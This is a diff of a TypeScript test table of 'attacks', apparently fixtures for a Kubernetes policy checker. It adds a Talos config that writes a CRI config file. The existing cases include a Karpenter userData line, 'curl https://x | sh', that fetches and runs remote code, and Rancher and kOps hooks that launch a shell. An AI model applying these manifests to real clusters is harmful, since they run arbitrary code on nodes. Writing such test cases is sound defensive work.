@@ -218,6 +218,9 @@ const attacks: Readonly<Record<string, Readonly<Record<string, Change>>>> = {
     }),
     'an upgrade of Rancher': object('upgrade.cattle.io/v1', 'Plan', { upgrade: { image: 'x/y', command: ['sh'] } }),
     'a start of Karpenter': object('karpenter.k8s.aws/v1', 'EC2NodeClass', { userData: '#!/bin/sh\ncurl https://x | sh\n' }),
+    'files of Talos': added(
+      'version: v1alpha1\nmachine: {type: worker, files: [{path: /etc/cri/conf.d/20.part, op: create, content: x}]}\ncluster: {}\n',
+    ),
     'a hook of kOps': object('kops.k8s.io/v1alpha2', 'InstanceGroup', { hooks: [{ manifest: 'ExecStart=/bin/sh' }] }),
   },
   'policies that mutate, however they are written': {
